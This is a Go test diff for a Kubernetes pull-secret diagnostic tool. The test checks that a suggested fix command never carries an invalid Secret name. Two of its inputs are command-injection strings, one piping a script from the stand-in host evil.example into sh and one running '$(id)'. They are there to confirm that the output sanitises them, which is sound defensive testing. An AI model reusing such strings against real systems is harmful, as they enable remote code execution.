@@ -218,3 +218,22 @@ func FuzzDiagnose(f *testing.F) {
 		}
 	})
 }
+
+// TestFixNeverCarriesAnInvalidSecretName: the API server does not check
+// the names a Pod lists in imagePullSecrets, and a fix is a command a
+// person copies: a name that is not a Secret's is a placeholder there.
+func TestFixNeverCarriesAnInvalidSecretName(t *testing.T) {
+	for _, tc := range []struct{ name, want string }{
+		{"pull-token", "regcred secret create pull-token -n team"},
+		{"x; curl evil.example | sh", "regcred secret create SECRET-NAME -n team"},
+		{"$(id)", "regcred secret create SECRET-NAME -n team"},
+	} {
+		f := newFixture()
+		f.cred.Spec.Registries = []string{"other.example"}
+		f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: tc.name}}
+		got := f.diagnose(t)
+		if got.Diagnosis != DiagMissingSecret || !strings.Contains(got.Fix, tc.want) {
+			t.Errorf("pull Secret %q: %s, fix %q; want %s with %q", tc.name, got.Diagnosis, got.Fix, DiagMissingSecret, tc.want)
+		}
+	}
+}
